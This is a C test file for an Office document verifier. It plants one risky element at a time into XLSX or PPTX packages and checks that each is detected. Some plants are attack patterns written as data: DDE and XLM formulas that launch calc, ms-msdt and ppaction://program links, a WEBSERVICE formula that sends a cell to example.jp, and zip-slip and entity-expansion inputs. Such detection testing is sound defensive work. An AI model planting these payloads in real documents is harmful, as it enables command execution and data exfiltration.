/* SPDX-License-Identifier: Apache-2.0
 * bites-office.c - contract in bites-office.h. Each plant changes one place of a file that
 * otherwise conforms. */
#include "bites-office.h"

#include <string.h>

#define X SK_TYPE_XLSX
#define P SK_TYPE_PPTX
#define O "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define M "http://schemas.microsoft.com/office/2006/relationships/"
#define BOOK "xl/workbook.xml"
#define BOOK_RELATIONS "xl/_rels/workbook.xml.rels"
#define SHEET "xl/worksheet1.xml"
#define SHEET_RELATIONS "xl/_rels/worksheet1.xml.rels"
#define SHOW "ppt/presentation.xml"
#define SHOW_RELATIONS "ppt/_rels/presentation.xml.rels"
#define SLIDE "ppt/slides/slide1.xml"
#define SLIDE_RELATIONS "ppt/slides/_rels/slide1.xml.rels"
#define TYPES "[Content_Types].xml"
#define PACKAGE "_rels/.rels"
#define SPREADSHEET "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
#define PRESENTATION                                                                               \
    "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"

/* A relationship more, as the last one. */
#define REL(id, target, type)                                                                      \
    "</Relationships>",                                                                            \
        "<Relationship Id=\"" id "\" Target=\"" target "\" Type=\"" type "\"/></Relationships>"
#define FAR(id, target, type)                                                                      \
    "</Relationships>", "<Relationship Id=\"" id "\" Target=\"" target                             \
                        "\" TargetMode=\"External\" Type=\"" type "\"/></Relationships>"
/* An element more, in a sheet or among the shapes of a slide. */
#define IN_SHEET(xml) "<hyperlinks>", xml "<hyperlinks>"
#define IN_BOOK(xml) "<bookViews>", xml "<bookViews>"
#define IN_SLIDE(xml) "<p:spTree>", "<p:spTree>" xml
#define IN_SHOW(xml) "<p:sldSz ", xml "<p:sldSz "
#define FORMULA(text) "<f>1/0</f>", "<f>" text "</f>"

typedef struct {
    const char *code;
    SkType type;
    const char *part; /* whose first @old becomes @new; an entry more where @old is NULL */
    const char *old, *new;
    SkVerdict verdict; /* what the policy says of the element */
} Plant;

static const Plant plants[] = {
    { "unknown-part", X, SHEET, IN_SHEET("<foo/>"), 0 },
    { "unknown-part", X, SHEET, "<dimension ref", "<dimension foo=\"1\" ref", 0 },
    { "unknown-part", X, "xl/calcChain.xml", NULL, "x", 0 },
    { "unknown-part", P, SLIDE, IN_SLIDE("<p:foo/>"), 0 },
    { "unknown-part", P, SLIDE, IN_SLIDE("<a:extLst/>"), 0 },
    { "unknown-part", P, "ppt/viewProps.xml", NULL, "x", 0 },
    { "not-canonical", X, SHEET, "<row r=\"9\">", "<row r=\"09\">", 0 },
    { "not-canonical", P, SLIDE, "<a:tblGrid/>", "<a:tblGrid></a:tblGrid>", 0 },
    /* macros */
    { "vba-project", X, BOOK_RELATIONS, REL("rId8", "vbaProject.bin", M "vbaProject"), 0 },
    { "vba-project", X, "xl/vbaProject.bin", NULL, "x", 0 },
    { "vba-project", X, "xl/drawing1.xml", "<xdr:sp textlink", "<xdr:sp macro=\"a\" textlink", 0 },
    { "vba-project", X, SHEET, IN_SHEET("<sheetPr codeName=\"Sheet1\"/>"), 0 },
    { "vba-project", P, SHOW_RELATIONS, REL("rId10", "vbaProject.bin", M "vbaProject"), 0 },
    { "vba-project", P, "ppt/vbaProject.bin", NULL, "x", 0 },
    { "macro-type", X, TYPES, SPREADSHEET, "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
      0 },
    { "macro-type", X, TYPES, "spreadsheetml.sheet.main", "spreadsheetml.template.main", 0 },
    { "macro-type", P, TYPES, PRESENTATION,
      "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", 0 },
    { "macro-type", P, TYPES, "presentationml.presentation.main", "presentationml.slideshow.main",
      0 },
    { "xlm-macro", X, BOOK_RELATIONS, REL("rId8", "macrosheets/sheet1.xml", M "xlMacrosheet"), 0 },
    { "xlm-macro", X, BOOK_RELATIONS, REL("rId8", "dialogsheets/sheet1.xml", O "dialogsheet"), 0 },
    { "xlm-macro", X, "xl/macrosheets/sheet1.xml", NULL, "x", 0 },
    { "xlm-macro", X, SHEET, FORMULA("EXEC(\"calc.exe\")"), 0 },
    { "xlm-macro", X, BOOK, IN_BOOK("<functionGroups/>"), 0 },
    { "auto-macro", X, BOOK, "name=\"税率\"", "name=\"Auto_Open\"", 0 },
    { "auto-macro", X, BOOK, "name=\"税率\"", "function=\"1\" name=\"税率\"", 0 },
    { "auto-macro", X, BOOK, "name=\"税率\"", "name=\"税率\" vbProcedure=\"1\"", 0 },
    /* formulas */
    { "dde-field", X, SHEET, FORMULA("cmd|'/C calc'!A0"), 0 },
    { "dde-field", X, BOOK, ">0.1<", ">cmd|'/C calc'!A0<", 0 },
    { "dde-field", X, BOOK, IN_BOOK("<ddeLink ddeService=\"cmd\" ddeTopic=\"/C calc\"/>"), 0 },
    { "dde-field", X, "xl/chart1.xml", "'人口 1'!$A$1:$A$3", "cmd|a!b", 0 },
    { "dde-field", P, "ppt/charts/chart1.xml", "Sheet1!$A$1", "cmd|a!b", 0 },
    { "external-formula", X, SHEET, FORMULA("[1]Sheet1!A1"), 0 },
    { "external-formula", X, SHEET, "<formula>A1&gt;0<", "<formula>'\\\\s\\[a.xlsx]b'!A1<", 0 },
    { "active-formula", X, SHEET, FORMULA("WEBSERVICE(\"https://example.jp/?\"&amp;A1)"), 0 },
    { "active-formula", X, "xl/table1.xml", "表1[[#This Row],[区分]]<", "RTD(\"a\",,\"b\")<", 0 },
    { "unknown-formula", X, SHEET, FORMULA("macro1(A1)"), 0 },
    { "unknown-formula", X, SHEET, "\"甲,乙\"<", "A1:<", 0 },
    /* what leads elsewhere */
    { "external-workbook", X, BOOK_RELATIONS,
      REL("rId8", "externalLinks/externalLink1.xml", O "externalLink"), 0 },
    { "external-workbook", X, BOOK, IN_BOOK("<externalReferences/>"), 0 },
    { "external-workbook", X, "xl/externalLinks/externalLink1.xml", NULL, "x", 0 },
    { "external-workbook", X, BOOK_RELATIONS,
      FAR("rId8", "file:///c:/a.xlsx", O "externalLinkPath"), 0 },
    { "external-relationship", P, SLIDE_RELATIONS, FAR("rId8", "http://example.jp/", O "slide"),
      0 },
    { "external-image", X, "xl/_rels/drawing1.xml.rels",
      FAR("rId3", "http://example.jp/a.png", O "image"), 0 },
    { "external-image", P, SLIDE, "<a:blip r:embed=\"rId6\"/>",
      "<a:blip r:embed=\"rId6\" r:link=\"rId6\"/>", 0 },
    { "hyperlink", X, SHEET, "<hyperlinks>", "<hyperlinks>", SK_VERDICT_REMOVED },
    { "hyperlink", P, SLIDE, "<p:spTree>", "<p:spTree>", SK_VERDICT_REMOVED },
    { "unsafe-hyperlink", X, SHEET_RELATIONS, "https://www.example.jp/annai", "file:///c:/a.exe",
      0 },
    { "unsafe-hyperlink", X, SHEET, FORMULA("HYPERLINK(\"\\\\server\\a\")"), 0 },
    { "unsafe-hyperlink", P, SLIDE_RELATIONS, "https://www.example.jp/annai", "ms-msdt:/id", 0 },
    { "unsafe-hyperlink", P, SLIDE, "ppaction://hlinkshowjump?jump=nextslide", "ppaction://program",
      0 },
    { "unsafe-hyperlink", P, SLIDE, "ppaction://hlinkshowjump?jump=nextslide",
      "ppaction://macro?name=a", 0 },
    { "data-connection", X, BOOK_RELATIONS, REL("rId8", "connections.xml", O "connections"), 0 },
    { "data-connection", X, "xl/queryTables/queryTable1.xml", NULL, "x", 0 },
    { "data-connection", X, "xl/pivotCacheDefinition1.xml", "type=\"worksheet\"",
      "type=\"external\"", 0 },
    { "data-connection", X, "xl/pivotCacheDefinition1.xml", "<cacheSource ",
      "<cacheSource connectionId=\"1\" ", 0 },
    { "data-connection", P, "ppt/charts/chart1.xml", "<c:chart>",
      "<c:externalData r:id=\"rId1\"/><c:chart>", 0 },
    { "pivot-table", X, "xl/pivotTables/pivotTable9.xml", NULL, "x", 0 },
    { "printer-settings", X, SHEET_RELATIONS,
      REL("rId8", "printerSettings1.bin", O "printerSettings"), 0 },
    { "printer-settings", X, SHEET, IN_SHEET("<pageSetup r:id=\"rId1\"/>"), 0 },
    /* objects and controls */
    { "embedded-object", X, SHEET, IN_SHEET("<oleObjects/>"), 0 },
    { "embedded-object", X, SHEET_RELATIONS,
      REL("rId8", "embeddings/oleObject1.bin", O "oleObject"), 0 },
    { "embedded-object", P, SLIDE, IN_SLIDE("<p:oleObj/>"), 0 },
    { "embedded-object", P, SLIDE_RELATIONS, REL("rId8", "../embeddings/a.xlsx", O "package"), 0 },
    { "activex", X, SHEET, IN_SHEET("<controls/>"), 0 },
    { "activex", P, SLIDE, IN_SLIDE("<p:controls/>"), 0 },
    { "activex", P, "ppt/activeX/activeX1.bin", NULL, "x", 0 },
    { "form-control", X, SHEET_RELATIONS, REL("rId8", "ctrlProps/ctrlProp1.xml", O "ctrlProp"), 0 },
    { "embedded-media", P, SLIDE_RELATIONS,
      REL("rId8", "../media/media1.mp4",
          "http://schemas.microsoft.com/office/2007/relationships/media"),
      0 },
    { "embedded-media", P, SLIDE, IN_SLIDE("<a:audioFile/>"), 0 },
    { "embedded-media", P, SLIDE, "<p14:ripple/>", "<p14:ripple/><p:sndAc/>", 0 },
    { "embedded-media", P, "ppt/media/media1.wav", NULL, "RIFF", 0 },
    { "animation-command", P, SLIDE, "<p:cBhvr>", "<p:cmd cmd=\"verb(0)\" type=\"verb\"/><p:cBhvr>",
      0 },
    { "smartart-flattened", P, SLIDE_RELATIONS,
      REL("rId8", "../diagrams/data1.xml", O "diagramData"), 0 },
    { "smartart-flattened", X, "xl/diagrams/data1.xml", NULL, "x", 0 },
    { "vml-drawing", X, "xl/vmlDrawing1.vml", "<x:AutoFill>",
      "<x:FmlaMacro>a</x:FmlaMacro><x:AutoFill>", 0 },
    { "vml-drawing", P, SLIDE_RELATIONS, REL("rId8", "../drawings/vmlDrawing1.vml", O "vmlDrawing"),
      0 },
    { "unsupported-picture", X, "xl/_rels/drawing1.xml.rels", "image1.png", "image1.emf", 0 },
    { "unsupported-picture", P, SLIDE_RELATIONS, "image1.png", "image1.svg", 0 },
    { "custom-ui", X, PACKAGE, REL("rId3", "customUI/customUI.xml", M "ui/extensibility"), 0 },
    { "web-extension", X, "xl/webextensions/webextension1.xml", NULL, "x", 0 },
    { "embedded-font", P, SHOW, IN_SHOW("<p:embeddedFontLst/>"), 0 },
    { "embedded-font", P, SHOW_RELATIONS, REL("rId10", "fonts/font1.fntdata", O "font"), 0 },
    /* what tells of people and machines */
    { "custom-xml", X, BOOK_RELATIONS, REL("rId8", "xmlMaps.xml", O "xmlMaps"), 0 },
    { "custom-xml", P, SLIDE_RELATIONS, REL("rId8", "../tags/tag1.xml", O "tags"), 0 },
    { "custom-xml", P, SHOW, IN_SHOW("<p:custDataLst/>"), 0 },
    { "custom-properties", X, SHEET, IN_SHEET("<customProperties/>"), 0 },
    { "document-properties", X, "docProps/core.xml", NULL, "x", 0 },
    { "document-properties", P, "docProps/core.xml", NULL, "x", 0 },
    { "thumbnail", P, "docProps/thumbnail.jpeg", NULL, "x", 0 },
    { "document-signature", P, "_xmlsignatures/sig1.xml", NULL, "x", 0 },
    { "revision-ids", X, SHEET, "<row r=\"9\">", "<row r=\"9\" xr:uid=\"{0}\">", 0 },
    { "document-protection", X, SHEET, IN_SHEET("<sheetProtection password=\"CC1A\"/>"), 0 },
    { "document-protection", X, BOOK, IN_BOOK("<workbookProtection/>"), 0 },
    { "document-protection", P, SHOW, IN_SHOW("<p:modifyVerifier/>"), 0 },
    { "custom-view", X, BOOK, IN_BOOK("<customWorkbookViews/>"), 0 },
    { "slicer", X, "xl/slicers/slicer1.xml", NULL, "x", 0 },
    { "slicer", X, SHEET, IN_SHEET("<x14:slicerList/>"), 0 },
    { "threaded-comments", X, "xl/threadedComments/threadedComment1.xml", NULL, "x", 0 },
    { "people", X, "xl/persons/person.xml", NULL, "x", 0 },
    { "comments", X, SHEET, "<hyperlinks>", "<hyperlinks>", SK_VERDICT_REMOVED },
    { "comments", P, SLIDE, "<p:spTree>", "<p:spTree>", SK_VERDICT_REMOVED },
    /* what is hidden */
    { "hidden-sheet", X, BOOK, "sheetId=\"2\"", "sheetId=\"2\" state=\"hidden\"",
      SK_VERDICT_REFUSED },
    { "very-hidden-sheet", X, BOOK, "sheetId=\"2\"", "sheetId=\"2\" state=\"veryHidden\"", 0 },
    { "hidden-cells", X, SHEET, "<hyperlinks>", "<hyperlinks>", SK_VERDICT_REFUSED },
    { "hidden-cells", X, SHEET, "<col max", "<col hidden=\"true\" max", SK_VERDICT_REFUSED },
    { "hidden-slide", P, SLIDE, "<p:spTree>", "<p:spTree>", SK_VERDICT_REFUSED },
    /* the package and its XML */
    { "alternate-content", X, SHEET, IN_SHEET("<mc:AlternateContent/>"), 0 },
    { "alternate-content", P, SLIDE, "</mc:Choice>", "</mc:Choice><mc:Fallback/>", 0 },
    { "alternate-main-part", X, PACKAGE, REL("rId3", "xl/b.xml", O "officeDocument"), 0 },
    { "alternate-main-part", P, PACKAGE, REL("rId3", "ppt/b.xml", O "officeDocument"), 0 },
    { "wrong-content-type", X, TYPES, "worksheet+xml", "chartsheet+xml", 0 },
    { "wrong-content-type", P, TYPES, "slide+xml", "slideLayout+xml", 0 },
    { "duplicate-part", X, "xl/Workbook.xml", NULL, "x", 0 },
    { "unsafe-part-name", P, SLIDE_RELATIONS, "slide2.xml", "../../ppt/slides/slide2.xml", 0 },
    { "zip-slip", X, "xl/../../a.xml", NULL, "x", 0 },
    { "xml-dtd", X, "xl/sharedStrings.xml", "区分", "&lol;", 0 },
    { "xml-dtd", P, SLIDE, "<p:sld ", "<!DOCTYPE a><p:sld ", 0 },
    { "xml-instruction", X, SHEET, IN_SHEET("<!-- a -->"), 0 },
    { "xml-instruction", P, SLIDE, IN_SLIDE("<?a?>"), 0 },
};

static void
plant(const void *data)
{
    const Plant *p = data;
    GPtrArray *entries = office_new(p->type);
    SkJob job = sk_job_default();

    if (p->old == NULL)
        docx_add(entries, p->part, p->new);
    else
        docx_replace(entries, p->part, p->old, p->new);
    g_autoptr(GByteArray) file = docx_build(entries);
    job.level = SK_LEVEL_NONE;
    job.verdicts[sk_element_lookup(p->code)] = (uint8_t)p->verdict;
    g_autofree char *place = verify_place(p->type, bytes_span(file));
    const char *word = verify_word(p->type, bytes_span(file), &job);
    g_test_message("%s at: %s", word, place);
    if (strcmp(word, p->code) != 0)
        g_test_fail();
}

/* What the plants stand in conforms. */
static void
soil(void)
{
    assert_clean(X, docx_build(office_new(X)));
    assert_clean(P, docx_build(office_new(P)));
}

bool
office_plants_have(const char *code)
{
    for (unsigned i = 0; i < G_N_ELEMENTS(plants); i++)
        if (strcmp(plants[i].code, code) == 0)
            return true;
    return false;
}

void
office_plants_add(void)
{
    g_test_add_func("/verify/bites/office/soil", soil);
    for (unsigned i = 0; i < G_N_ELEMENTS(plants); i++) {
        g_autofree char *path = g_strdup_printf("/verify/bites/office/%s/%u", plants[i].code, i);
        g_test_add_data_func(path, &plants[i], plant);
    }
}
